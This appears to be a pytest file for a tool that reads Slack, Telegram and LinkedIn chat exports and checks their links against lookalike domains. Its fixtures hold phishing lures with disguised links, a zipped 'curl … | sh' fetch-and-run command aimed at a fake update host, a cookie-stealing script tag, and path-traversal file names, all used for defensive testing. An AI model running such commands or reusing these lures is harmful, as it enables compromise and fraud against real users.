"""Chat export readers: Slack, Telegram Desktop and LinkedIn exports become `Message`s.

The exports under tests/data/chat follow the real formats (Slack's users.json / channels.json /
dms.json and per-conversation day files, Telegram's result.json in both shapes, LinkedIn's
messages.csv with its BOM and quoted header); broken variants are built in tmp_path.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import shutil
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from keiho.domains import parse_subject
from keiho.errors import KeihoError
from keiho.mail.chat import (
    ChatFormatError,
    _common,
    detect_export,
    iter_chat_messages,
    telegram,
)
from keiho.mail.message import Address, Link, Message

DATA = Path(__file__).resolve().parent / "data" / "chat"
SLACK = DATA / "slack"
TELEGRAM_CHAT = DATA / "telegram_chat"
TELEGRAM_FULL = DATA / "telegram_full"
LINKEDIN = DATA / "linkedin" / "messages.csv"


def read(path: Path) -> tuple[list[Message], list[tuple[str, str]]]:
    problems: list[tuple[str, str]] = []
    messages = list(iter_chat_messages(path, on_problem=lambda where, what: problems.append((where, what))))
    return messages, problems


def by_location(messages: list[Message]) -> dict[str, Message]:
    return {m.location: m for m in messages}


def copy_export(source: Path, tmp_path: Path) -> Path:
    target = tmp_path / source.name
    shutil.copytree(source, target)
    return target


# --- Slack ---------------------------------------------------------------------------------


def slack_at(root: Path, conversation: str, day: str, index: int) -> str:
    return f"slack:{root / conversation / day}#{index}"


def test_slack_export_yields_what_people_wrote_and_skips_joins_and_topic_changes() -> None:
    messages, problems = read(SLACK)
    assert problems == []
    found = by_location(messages)
    general = [slack_at(SLACK, "general", "2024-05-01.json", i) for i in range(5)]
    assert general[0] not in found  # channel_join
    assert general[4] not in found  # channel_topic
    assert all(at in found for at in general[1:4])
    assert slack_at(SLACK, "treasury-ops", "2024-05-02.json", 0) in found
    assert all(m.kind == "chat" and m.platform == "slack" for m in messages)
    # Conversation folders in name order, day files in date order, messages in file order.
    assert messages[0].location == slack_at(SLACK, "D07GUESTDM", "2024-05-03.json", 0)
    assert [m.location for m in messages].index(general[1]) < [m.location for m in messages].index(general[2])


def test_slack_mrkdwn_links_mentions_and_escapes_become_plain_text_and_links() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "general", "2024-05-01.json", 1)]
    assert message.text == (
        "Reminder: the cold-wallet rotation is tomorrow. Runbook: rotation runbook "
        "(https://wiki.kitsune-ex.co.jp/ops/rotation) & questions to security@kitsune-ex.co.jp. cc @佐藤 陽翔"
    )
    assert message.links == (
        Link("https://wiki.kitsune-ex.co.jp/ops/rotation", "rotation runbook", "chat"),
        Link("mailto:security@kitsune-ex.co.jp", "security@kitsune-ex.co.jp", "chat"),
    )
    assert message.channel == "general"
    assert message.date is not None and message.date.replace(microsecond=0) == datetime(2024, 5, 1, 9, 0, tzinfo=UTC)
    assert message.message_id == "1714554000.000200"


def test_slack_sender_is_the_name_colleagues_saw_and_the_workspace_email() -> None:
    found = by_location(read(SLACK)[0])
    emily = found[slack_at(SLACK, "general", "2024-05-01.json", 1)]
    # No display name set: Slack shows the full name. users.json gives the email (lower-cased).
    assert emily.sender == Address("Emily Carter", "emily.carter@kitsune-ex.com")
    assert emily.header("x-chat-user-id") == "U02ECARTER"
    haruto = found[slack_at(SLACK, "general", "2024-05-01.json", 2)]
    assert haruto.sender == Address("佐藤 陽翔", "haruto.sato@kitsune-ex.co.jp")
    assert haruto.header("x-chat-real-name") == "Haruto Sato"
    assert haruto.sender.domain == "kitsune-ex.co.jp"


def test_slack_guest_from_another_workspace_is_marked_and_its_lookalike_link_kept_apart_from_its_label() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "D07GUESTDM", "2024-05-03.json", 0)]
    assert message.sender == Address("Haruto Sato (CEO)", "haruto.sato@kitsune-exchange.co")
    assert message.header("x-chat-external") == "true"
    assert message.header("x-chat-guest") == "true"
    assert message.header("x-chat-real-name") == "Haruto Sato"
    assert message.channel == "dm: Emily Carter, Haruto Sato (CEO)"
    # The label looks like a URL of ours; it is the label of the one real link, not a link itself.
    assert "https://sdk.kitsune-ex.co.jp/update (https://kitsune-ex-co-jp.sdk-update.com/get)" in message.text
    assert message.links[0] == Link(
        "https://kitsune-ex-co-jp.sdk-update.com/get", "https://sdk.kitsune-ex.co.jp/update", "chat"
    )
    assert not any(link.url.startswith("https://sdk.kitsune-ex.co.jp") for link in message.links)


def test_slack_files_keep_name_type_and_size_and_external_shares_are_links() -> None:
    found = by_location(read(SLACK)[0])
    dm = found[slack_at(SLACK, "D07GUESTDM", "2024-05-03.json", 0)]
    assert [(a.filename, a.declared_type, a.size, a.data) for a in dm.attachments] == [
        ("KitsuneSigner_Update.zip", "application/zip", 18432, b""),
        ("Audit checklist", "application/vnd.google-apps.document", 0, b""),
    ]
    assert Link("https://docs.google.com/document/d/1AbCdEfGhIjKlMnOp/edit", "Audit checklist", "chat") in dm.links
    # Slack-hosted file URLs are not links (they may carry a file token); a deleted file is no attachment.
    assert not any("files.slack.com" in link.url for link in dm.links)
    plan = found[slack_at(SLACK, "general", "2024-05-01.json", 2)]
    assert [(a.filename, a.declared_type, a.size) for a in plan.attachments] == [
        ("ローテーション計画.pdf", "application/pdf", 48213)
    ]


def test_slack_japanese_text_with_a_bare_url_and_an_auto_linked_host() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "general", "2024-05-01.json", 2)]
    assert message.text == (
        "明日のローテーションの件、了解しました。計画書はこちら https://drive.kitsune-ex.co.jp/d/rotation-plan\n"
        "kitsune-ex.com の告知も更新済みです。"
    )
    assert message.links == (
        Link("https://drive.kitsune-ex.co.jp/d/rotation-plan", "", "chat"),
        Link("http://kitsune-ex.com", "kitsune-ex.com", "chat"),
    )


def test_slack_rich_text_blocks_give_the_text_when_text_is_empty() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "general", "2024-05-02.json", 0)]
    assert (
        message.text
        == "콜드월렛 서명 절차 문서입니다: 서명 절차 (https://wiki.kitsune-ex.co.jp/ops/signing-ko) 확인 부탁드립니다 @Emily Carter🙏"
    )
    assert message.links == (Link("https://wiki.kitsune-ex.co.jp/ops/signing-ko", "서명 절차", "chat"),)
    assert message.sender.display_name == "박민지"


def test_slack_bot_blocks_give_section_text_and_button_links() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "general", "2024-05-01.json", 3)]
    assert message.sender == Address("deploy-bot", "B05DEPLOY")
    assert message.header("x-chat-bot") == "true"
    assert (
        "*Wallet SDK 4.2.1* is ready. Changelog: v4.2.1 (https://github.com/kitsune-ex/wallet-sdk/releases/tag/v4.2.1)"
        in message.text
    )
    assert "Install update" in message.text
    assert Link("https://kitsune-sdk-update.com/install.sh", "Install update", "chat") in message.links
    assert (
        Link("https://github.com/kitsune-ex/wallet-sdk/blob/main/CHANGELOG.md", "Release notes", "chat")
        in message.links
    )


def test_slack_thread_reply_and_link_preview() -> None:
    found = by_location(read(SLACK)[0])
    parent = found[slack_at(SLACK, "general", "2024-05-02.json", 0)]
    reply = found[slack_at(SLACK, "general", "2024-05-02.json", 1)]
    assert reply.in_reply_to == parent.message_id and parent.in_reply_to == ""
    url = "https://www.coindesk.com/markets/2024/05/02/bitcoin-slides"
    assert Link(url, "Bitcoin Slides Below $58K", "chat") in reply.links
    assert "BTC fell as ETF outflows continued." in reply.text


def test_slack_html_escapes_are_undone_once() -> None:
    message = by_location(read(SLACK)[0])[slack_at(SLACK, "D07GUESTDM", "2024-05-03.json", 1)]
    assert message.text == "Will do <3"


def test_slack_mentions_of_channels_groups_and_dates_read_as_slack_shows_them(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    day = root / "general" / "2024-05-11.json"
    text = (
        "<!here> see <#G02TREASURY> and <#C01GENERAL|general>, ask <!subteam^S0SEC|@security-team> "
        "before <!date^1715385600^{date_short}|May 11th>; a <not a link> stays; <tel:+81312345678|call me>"
    )
    day.write_text(json.dumps([{"type": "message", "user": "U02ECARTER", "ts": "1715385600.000100", "text": text}]))
    message = by_location(read(root)[0])[f"slack:{day}#0"]
    assert message.text == (
        "@here see #treasury-ops and #general, ask @security-team before May 11th; "
        "a <not a link> stays; call me (tel:+81312345678)"
    )
    assert message.links == (Link("tel:+81312345678", "call me", "chat"),)


def test_slack_one_day_file_reads_alone_with_names_from_its_export(tmp_path: Path) -> None:
    day = SLACK / "general" / "2024-05-01.json"
    alone, problems = read(day)
    assert problems == []
    whole = [m for m in read(SLACK)[0] if m.location.startswith(f"slack:{day}#")]
    assert alone == whole


def test_slack_reads_attachment_bytes_the_export_holds(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as archive:
        archive.writestr("install.command", "#!/bin/sh\ncurl -s https://kitsune-sdk-update.com/p | sh\n")
    (root / "D07GUESTDM" / "attachments").mkdir()
    (root / "D07GUESTDM" / "attachments" / "F07SDKZIP-KitsuneSigner_Update.zip").write_bytes(payload.getvalue())
    (root / "__uploads" / "F01PLANPDF").mkdir(parents=True)
    (root / "__uploads" / "F01PLANPDF" / "ローテーション計画.pdf").write_bytes(b"%PDF-1.7\n%%EOF\n")
    found = by_location(read(root)[0])
    zip_file = found[slack_at(root, "D07GUESTDM", "2024-05-03.json", 0)].attachments[0]
    assert zip_file.data == payload.getvalue() and zip_file.size == len(payload.getvalue())
    pdf = found[slack_at(root, "general", "2024-05-01.json", 2)].attachments[0]
    assert pdf.data == b"%PDF-1.7\n%%EOF\n"


def test_slack_attachment_over_the_size_cap_keeps_its_name_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = copy_export(SLACK, tmp_path)
    (root / "D07GUESTDM" / "attachments").mkdir()
    (root / "D07GUESTDM" / "attachments" / "F07SDKZIP-KitsuneSigner_Update.zip").write_bytes(
        b"PK\x03\x04" + b"\x00" * 60
    )
    monkeypatch.setattr(_common, "MAX_ATTACHMENT_BYTES", 32)
    message = by_location(read(root)[0])[slack_at(root, "D07GUESTDM", "2024-05-03.json", 0)]
    assert message.attachments[0].data == b"" and message.attachments[0].size == 18432
    assert any("KitsuneSigner_Update.zip" in p and "limit" in p for p in message.problems)


def test_slack_attachment_outside_the_export_is_never_read(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("not part of the export")
    (root / "D07GUESTDM" / "attachments").mkdir()
    (root / "D07GUESTDM" / "attachments" / "F07SDKZIP-KitsuneSigner_Update.zip").symlink_to(secret)
    day = root / "general" / "2024-05-09.json"
    day.write_text(
        json.dumps(
            [
                {
                    "type": "message",
                    "user": "U02ECARTER",
                    "ts": "1715212800.000100",
                    "text": "see file",
                    "files": [{"id": "F9", "name": "../../../secret.txt", "mimetype": "text/plain", "size": 22}],
                }
            ]
        )
    )
    found = by_location(read(root)[0])
    assert found[slack_at(root, "D07GUESTDM", "2024-05-03.json", 0)].attachments[0].data == b""
    assert found[f"slack:{day}#0"].attachments[0].data == b""


def test_slack_broken_day_file_is_reported_and_the_others_still_read(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    broken = root / "general" / "2024-05-02.json"
    broken.write_text('[\n    {"type": "message", "text": "cut off', encoding="utf-8")
    messages, problems = read(root)
    assert len(problems) == 1
    where, what = problems[0]
    assert str(broken) in where and "line 2" in what and "invalid JSON" in what
    assert not any(m.location.startswith(f"slack:{broken}#") for m in messages)
    assert slack_at(root, "general", "2024-05-01.json", 1) in by_location(messages)
    assert slack_at(root, "treasury-ops", "2024-05-02.json", 0) in by_location(messages)


def test_slack_broken_day_file_given_alone_raises_naming_the_position(tmp_path: Path) -> None:
    day = tmp_path / "export" / "general" / "2024-05-02.json"
    day.parent.mkdir(parents=True)
    day.write_text('[{"type": "message", "text": "x",, "ts": "1"}]')
    with pytest.raises(ChatFormatError) as raised:
        list(iter_chat_messages(day))
    assert raised.value.path == str(day) and raised.value.where == "line 1, column 34"
    assert str(day) in str(raised.value)


def test_slack_messages_that_are_not_objects_are_reported_one_by_one(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    day = root / "general" / "2024-05-10.json"
    day.write_text(
        json.dumps(
            [
                42,
                {"type": "message", "user": "U02ECARTER", "ts": "1715299200.000100", "text": 17},
                {"type": "message", "user": "U02ECARTER", "ts": "1715299300.000100", "text": "still here"},
            ]
        )
    )
    messages, problems = read(root)
    assert problems == [(f"slack:{day}#0", "a JSON number, not a message object; skipped")]
    found = by_location(messages)
    assert f"slack:{day}#1" not in found  # no text of the right type: nothing to score
    assert found[f"slack:{day}#2"].text == "still here"


def test_slack_unreadable_users_json_is_reported_and_names_come_from_the_messages(tmp_path: Path) -> None:
    root = copy_export(SLACK, tmp_path)
    (root / "users.json").write_text("[{]")
    messages, problems = read(root)
    assert [where for where, _ in problems] == [f"slack:{root / 'users.json'}"]
    emily = by_location(messages)[slack_at(root, "general", "2024-05-01.json", 1)]
    assert emily.sender == Address("Emily Carter", "U02ECARTER")


# --- Telegram ------------------------------------------------------------------------------


def tg_at(path: Path, chat: str, message_id: int) -> str:
    return f"telegram:{path}#chat={chat}#id={message_id}"


OTC = "Kitsune × Orbit Capital OTC"


def test_telegram_chat_skips_service_messages_and_stickers() -> None:
    messages, problems = read(TELEGRAM_CHAT)
    assert problems == []
    path = TELEGRAM_CHAT / "result.json"
    assert [m.location for m in messages] == [tg_at(path, OTC, i) for i in (102, 103, 104, 105, 106, 107, 108, 111)]
    assert all(m.platform == "telegram" and m.kind == "chat" and m.channel == OTC for m in messages)


def test_telegram_text_links_bare_links_and_formatting() -> None:
    message = by_location(read(TELEGRAM_CHAT)[0])[tg_at(TELEGRAM_CHAT / "result.json", OTC, 102)]
    assert message.text == (
        "Hi Emily, before we settle the OTC block please verify your wallet in our portal: portal.orbitcapital.io "
        "(https://orbitcapital-portal.xyz/verify?ref=kitsune) — or use the backup link https://orbit-capital.io/kyc (today)"
    )
    assert message.links == (
        Link("https://orbitcapital-portal.xyz/verify?ref=kitsune", "portal.orbitcapital.io", "chat"),
        Link("https://orbit-capital.io/kyc", "", "chat"),
    )
    assert message.sender == Address("Daniel Wu | Orbit Capital", "user5551234567")
    assert message.date == datetime(2024, 5, 6, 10, 0, tzinfo=UTC)
    assert message.header("x-chat-type") == "private_supergroup"


def test_telegram_japanese_with_an_email_entity_and_a_reply() -> None:
    message = by_location(read(TELEGRAM_CHAT)[0])[tg_at(TELEGRAM_CHAT / "result.json", OTC, 104)]
    assert message.text == "了解です。契約書は法務が確認します。連絡先: legal@kitsune-ex.co.jp まで。"
    assert message.links == (Link("mailto:legal@kitsune-ex.co.jp", "", "chat"),)
    assert message.in_reply_to == "102" and message.message_id == "104"


def test_telegram_arabic_forward_with_a_link_written_without_scheme() -> None:
    message = by_location(read(TELEGRAM_CHAT)[0])[tg_at(TELEGRAM_CHAT / "result.json", OTC, 105)]
    assert message.text == "تم تأكيد التحويل. يرجى تثبيت التطبيق من orbit-trade.app/download قبل التسوية."
    assert message.links == (Link("http://orbit-trade.app/download", "", "chat"),)
    assert message.header("x-chat-forwarded-from") == "Orbit Capital Official"


def test_telegram_files_are_read_from_the_export_or_named_when_left_out() -> None:
    found = by_location(read(TELEGRAM_CHAT)[0])
    path = TELEGRAM_CHAT / "result.json"
    on_disk = (TELEGRAM_CHAT / "files" / "Orbit_OTC_Terms.pdf").read_bytes()
    terms = found[tg_at(path, OTC, 103)].attachments
    assert [(a.filename, a.declared_type, a.data, a.size) for a in terms] == [
        ("Orbit_OTC_Terms.pdf", "application/pdf", on_disk, len(on_disk))
    ]
    dmg = found[tg_at(path, OTC, 106)].attachments
    assert [(a.filename, a.declared_type, a.data, a.size) for a in dmg] == [
        ("OrbitTrader_Setup.dmg", "application/x-apple-diskimage", b"", 48318464)
    ]
    photo = found[tg_at(path, OTC, 107)].attachments
    assert [(a.filename, a.declared_type, a.data, a.size) for a in photo] == [
        ("photo_1@06-05-2024_19-15-00.jpg", "image/jpeg", b"", 52311)
    ]


def test_telegram_inline_url_buttons_are_links() -> None:
    message = by_location(read(TELEGRAM_CHAT)[0])[tg_at(TELEGRAM_CHAT / "result.json", OTC, 108)]
    assert message.links == (Link("https://orbit-bonus.xyz/claim", "Claim bonus", "chat"),)
    assert message.text == "Your settlement bonus is ready.\nClaim bonus\nLater"
    assert message.header("x-chat-via-bot") == "@OrbitClaimBot"


def test_telegram_full_export_reads_chats_and_left_chats() -> None:
    messages, problems = read(TELEGRAM_FULL)
    assert problems == []
    path = TELEGRAM_FULL / "result.json"
    kim = "김민준 (Kimchi Ventures)"
    assert [m.location for m in messages] == [
        tg_at(path, kim, 1),
        tg_at(path, kim, 2),
        tg_at(path, "Saved Messages", 1),
        tg_at(path, "Airdrop Hunters 🚀", 78),
    ]
    first = messages[0]
    # An old export: text as one string, from_id as a number, a local date without offset.
    assert first.text == "안녕하세요 에밀리님, 투자 자료입니다: https://kimchi-ventures.kr/deck.pdf 확인 부탁드립니다."
    assert first.links == (Link("https://kimchi-ventures.kr/deck.pdf", "", "chat"),)
    assert first.sender == Address("김민준 (Kimchi Ventures)", "user5550001111")
    assert first.date == datetime(2024, 4, 2, 10, 0, tzinfo=UTC)
    assert messages[1].links == (Link("https://kimchi-ventures.kr/sdk/update.pkg", "여기", "chat"),)
    assert messages[3].links == (Link("http://airdrop-kitsune.com/claim", "", "chat"),)


def test_telegram_truncated_export_raises_naming_line_and_column(tmp_path: Path) -> None:
    whole = (TELEGRAM_CHAT / "result.json").read_text(encoding="utf-8")
    cut = tmp_path / "result.json"
    cut.write_text(whole[: len(whole) // 2], encoding="utf-8")
    with pytest.raises(ChatFormatError) as raised:
        list(iter_chat_messages(tmp_path))
    assert raised.value.path == str(cut)
    assert raised.value.where.startswith("line ") and ", column " in raised.value.where
    assert "invalid JSON" in raised.value.problem


def test_telegram_json_without_messages_is_not_an_export(tmp_path: Path) -> None:
    (tmp_path / "result.json").write_text(json.dumps({"name": "x", "type": "personal_chat", "id": 1}))
    with pytest.raises(ChatFormatError, match="no 'messages' list"):
        list(iter_chat_messages(tmp_path / "result.json"))


def test_telegram_bad_messages_are_reported_and_skipped(tmp_path: Path) -> None:
    export = {
        "name": "Desk",
        "type": "private_group",
        "id": 7,
        "messages": [
            "not a message",
            {
                "id": 2,
                "type": "message",
                "date_unixtime": "1714989600",
                "from": "A",
                "from_id": "user1",
                "text": "fine",
            },
            {"id": 3, "type": "message", "from": "B", "from_id": "user2", "text": "bad date", "date": "yesterday"},
        ],
    }
    path = tmp_path / "result.json"
    path.write_text(json.dumps(export))
    messages, problems = read(path)
    assert problems == [(f"telegram:{path}#chat=Desk#0", "a JSON string, not a message object; skipped")]
    assert [m.text for m in messages] == ["fine", "bad date"]
    assert messages[1].date is None and messages[1].problems == ("date 'yesterday' is not ISO 8601",)


def test_telegram_file_paths_cannot_leave_the_export(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("private")
    export_dir = tmp_path / "ChatExport_2024-05-06"
    export_dir.mkdir()
    export = {
        "name": "Desk",
        "type": "private_group",
        "id": 7,
        "messages": [
            {
                "id": 1,
                "type": "message",
                "date_unixtime": "1714989600",
                "from": "A",
                "from_id": "user1",
                "file": "../secret.txt",
                "file_name": "invoice.pdf",
                "mime_type": "application/pdf",
                "text": "",
            },
        ],
    }
    (export_dir / "result.json").write_text(json.dumps(export))
    (message,) = read(export_dir)[0]
    assert message.attachments[0].filename == "invoice.pdf" and message.attachments[0].data == b""


def test_telegram_export_over_the_size_cap_is_reported_and_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = copy_export(TELEGRAM_CHAT, tmp_path) / "result.json"
    monkeypatch.setattr(telegram, "MAX_JSON_BYTES", 1024)
    messages, problems = read(path)
    assert messages == []
    assert len(problems) == 1 and problems[0][0] == f"telegram:{path}" and "skipped" in problems[0][1]


# --- LinkedIn ------------------------------------------------------------------------------


def li_at(path: Path, row: int) -> str:
    return f"linkedin:{path}#row={row}"


def test_linkedin_rows_become_messages_and_empty_ones_are_skipped() -> None:
    messages, problems = read(LINKEDIN)
    assert problems == []
    # Row 1 is the header; row 6 is a sponsored message with no content.
    assert [m.location for m in messages] == [li_at(LINKEDIN, r) for r in (2, 3, 4, 5, 7)]
    assert all(m.platform == "linkedin" and m.kind == "chat" for m in messages)


def test_linkedin_html_inmail_keeps_anchor_text_and_targets() -> None:
    message = by_location(read(LINKEDIN)[0])[li_at(LINKEDIN, 2)]
    assert message.sender == Address("Sophia Lee", "https://www.linkedin.com/in/sophia-lee-tr4d3r")
    assert message.to == (Address("Emily Carter", "https://www.linkedin.com/in/emily-carter-kitsune"),)
    assert message.subject == "Senior Blockchain Engineer role - $350k + tokens"
    assert message.date == datetime(2024, 5, 7, 8, 12, 44, tzinfo=UTC)
    assert message.text == (
        "Hi Emily,\nWe are hiring for a stealth DeFi exchange. Please complete the short coding assessment "
        "(https://bitbucket.org/defi-stealth/assessment) before our call and run npm install & npm start.\n"
        "Book a slot: https://calendly.com/sophia-lee (https://calendly-meet.co/sophia)"
    )
    assert message.links == (
        Link("https://bitbucket.org/defi-stealth/assessment", "coding assessment", "chat"),
        Link("https://calendly-meet.co/sophia", "https://calendly.com/sophia-lee", "chat"),
    )
    assert message.html.startswith("<p>Hi Emily,</p>")
    assert message.header("x-chat-folder") == "INBOX"


def test_linkedin_japanese_multiline_message_with_a_bare_url() -> None:
    message = by_location(read(LINKEDIN)[0])[li_at(LINKEDIN, 4)]
    assert message.text.splitlines() == [
        "カーター様",
        "はじめまして。弊社の新しい取引ボットのβテストにご協力いただけませんか。",
        "ダウンロード: https://kitsune-trade-bot.com/beta",
        "よろしくお願いいたします。",
    ]
    assert message.links == (Link("https://kitsune-trade-bot.com/beta", "", "chat"),)
    assert message.sender.display_name == "山田 太郎"
    assert message.html == ""


def test_linkedin_double_encoded_utf8_is_repaired_and_noted() -> None:
    message = by_location(read(LINKEDIN)[0])[li_at(LINKEDIN, 5)]
    assert message.sender.display_name == "René Dubois"
    assert message.subject == "Opportunité"
    assert message.text == "Bonjour Emily, votre profil m'intéresse beaucoup. Voir www.crypto-talents.fr/offre, merci !"
    assert message.links == (Link("http://www.crypto-talents.fr/offre", "", "chat"),)
    assert any("double-encoded" in p for p in message.problems)
    assert message.header("x-chat-folder") == "ARCHIVE"


def test_linkedin_group_recipients_title_and_attachments() -> None:
    message = by_location(read(LINKEDIN)[0])[li_at(LINKEDIN, 7)]
    assert message.to == (
        Address("Emily Carter", "https://www.linkedin.com/in/emily-carter-kitsune"),
        Address("Haruto Sato", "https://www.linkedin.com/in/haruto-sato-kitsune"),
    )
    assert message.channel == "Kitsune hiring sync"
    assert message.text == 'Sharing the "role overview" for both of you.'
    assert [(a.filename, a.data, a.size) for a in message.attachments] == [("Role_Overview_2024.pdf", b"", -1)]


def write_csv(path: Path, rows: list[list[str]], *, bom: bool = False) -> Path:
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_linkedin_header_variants_and_notes_above_the_header(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "Messages.csv",
        [
            ["Notes:"],
            ["This file lists your messages."],
            ["conversation_id", "from", "sender_profile_url", "date", "content"],
            [
                "c1",
                "Jane Roe",
                "https://www.linkedin.com/in/jane-roe",
                "2024-05-01T10:00:00Z",
                "See https://example.org/job.",
            ],
        ],
    )
    (message,) = read(tmp_path)[0]
    assert message.location == li_at(path, 4)  # as a spreadsheet numbers it
    assert message.sender == Address("Jane Roe", "https://www.linkedin.com/in/jane-roe")
    assert message.links == (Link("https://example.org/job", "", "chat"),)
    assert message.date == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)


def test_linkedin_csv_without_content_column_is_not_an_export(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "messages.csv", [["First Name", "Last Name", "URL"], ["A", "B", "https://x"]], bom=True)
    with pytest.raises(ChatFormatError) as raised:
        list(iter_chat_messages(path))
    assert raised.value.where == "row 1" and "CONTENT" in raised.value.problem


def test_linkedin_short_rows_are_reported_and_long_fields_read(tmp_path: Path) -> None:
    long_text = "見積もり " * 40_000  # 200,000 characters: over csv's default 131,072 field limit
    path = write_csv(
        tmp_path / "messages.csv",
        [
            ["CONVERSATION ID", "FROM", "DATE", "CONTENT"],
            ["c1", "Jane Roe"],
            ["c1", "Jane Roe", "2024-05-01 10:00:00 UTC", long_text[:150_000]],
        ],
    )
    outer = csv.field_size_limit(131_072)  # the csv module's default, whatever ran before
    try:
        messages, problems = read(path)
        assert csv.field_size_limit() == 131_072  # the process-wide limit is given back
    finally:
        csv.field_size_limit(outer)
    assert problems == [(li_at(path, 2), "2 fields where the header has 4; skipped")]
    assert [m.location for m in messages] == [li_at(path, 3)]
    assert messages[0].text == long_text[:150_000].strip()


def test_linkedin_html_tag_soup_scripts_and_oversized_content(tmp_path: Path) -> None:
    soup = '<p>Hi</p><script>steal(document.cookie)</script><p><a href="https://x.example/a">go</a>' + "<![" * 5000
    nested = "<p>Hello</p>" + "<div>" * 20_000 + "unseen"
    path = write_csv(tmp_path / "messages.csv", [["FROM", "CONTENT"], ["A", soup], ["B", nested]])
    messages, problems = read(path)
    assert problems == []
    assert messages[0].text == "Hi\ngo (https://x.example/a)"
    assert messages[0].links == (Link("https://x.example/a", "go", "chat"),)
    assert messages[1].text == "Hello" and messages[1].html == nested[: len(messages[1].html)]
    assert any("cut" in p for p in messages[1].problems)


def test_linkedin_bytes_that_are_not_utf8_are_replaced_and_noted(tmp_path: Path) -> None:
    path = tmp_path / "messages.csv"
    path.write_bytes(b"FROM,CONTENT\r\nJane Roe,caf\xe9 \xff ok\r\n")
    (message,) = read(path)[0]
    assert message.text == "caf\ufffd \ufffd ok"
    assert "content: bytes that are not UTF-8 replaced" in message.problems


def test_linkedin_binary_file_is_not_csv(tmp_path: Path) -> None:
    path = tmp_path / "messages.csv"
    path.write_bytes(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)))
    with pytest.raises(ChatFormatError, match="binary"):
        list(iter_chat_messages(path))


# --- sniffing and errors -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "kind", "source"),
    [
        (SLACK, "slack", SLACK),
        (SLACK / "general" / "2024-05-01.json", "slack", SLACK / "general" / "2024-05-01.json"),
        (TELEGRAM_CHAT, "telegram", TELEGRAM_CHAT / "result.json"),
        (TELEGRAM_FULL / "result.json", "telegram", TELEGRAM_FULL / "result.json"),
        (LINKEDIN.parent, "linkedin", LINKEDIN),
        (LINKEDIN, "linkedin", LINKEDIN),
    ],
)
def test_sniffing_picks_the_reader(path: Path, kind: str, source: Path) -> None:
    assert detect_export(path) == (kind, source)
    first = next(iter_chat_messages(path))
    assert first.platform == kind


def test_unknown_folder_raises_when_called_not_when_iterated(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("hello")
    (tmp_path / "photos").mkdir()
    with pytest.raises(ChatFormatError) as raised:
        iter_chat_messages(tmp_path)
    assert raised.value.path == str(tmp_path) and "not a chat export" in raised.value.problem
    assert isinstance(raised.value, KeihoError) and raised.value.exit_code == 2


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("slack-export.zip", b"PK\x03\x04", "unzip"),
        ("messages.html", b"<!DOCTYPE html><html>", "JSON"),
        ("users.json", b'[{"id": "U1"}]', "not a Slack day file"),
        ("notes.txt", b"hello", "not a chat export"),
    ],
)
def test_files_that_are_no_export_say_why(tmp_path: Path, name: str, content: bytes, says: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ChatFormatError, match=says):
        iter_chat_messages(path)


def test_telegram_html_export_folder_asks_for_json(tmp_path: Path) -> None:
    (tmp_path / "messages.html").write_text("<html></html>")
    with pytest.raises(ChatFormatError, match="JSON"):
        iter_chat_messages(tmp_path)


def test_missing_path_raises(tmp_path: Path) -> None:
    with pytest.raises(ChatFormatError, match="no such file or folder"):
        iter_chat_messages(tmp_path / "absent")


def test_problems_are_logged_when_no_handler_is_given(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "result.json"
    path.write_text(json.dumps({"name": "Desk", "type": "private_group", "id": 7, "messages": [None]}))
    with caplog.at_level(logging.WARNING, logger="keiho.mail.chat"):
        assert list(iter_chat_messages(path)) == []
    assert f"telegram:{path}#chat=Desk#0" in caplog.text and "not a message object" in caplog.text


def test_every_web_link_read_from_the_exports_is_a_clean_url() -> None:
    """No trailing punctuation, brackets or neighbouring words: each parses as a host the
    lookalike engine can check."""
    links = [
        link for export in (SLACK, TELEGRAM_CHAT, TELEGRAM_FULL, LINKEDIN) for m in read(export)[0] for link in m.links
    ]
    web = [link.url for link in links if not link.url.startswith("mailto:")]
    assert len(web) >= 20
    for url in web:
        host = parse_subject(url)
        assert host.url is not None and host.ascii and host.ascii in url.lower()
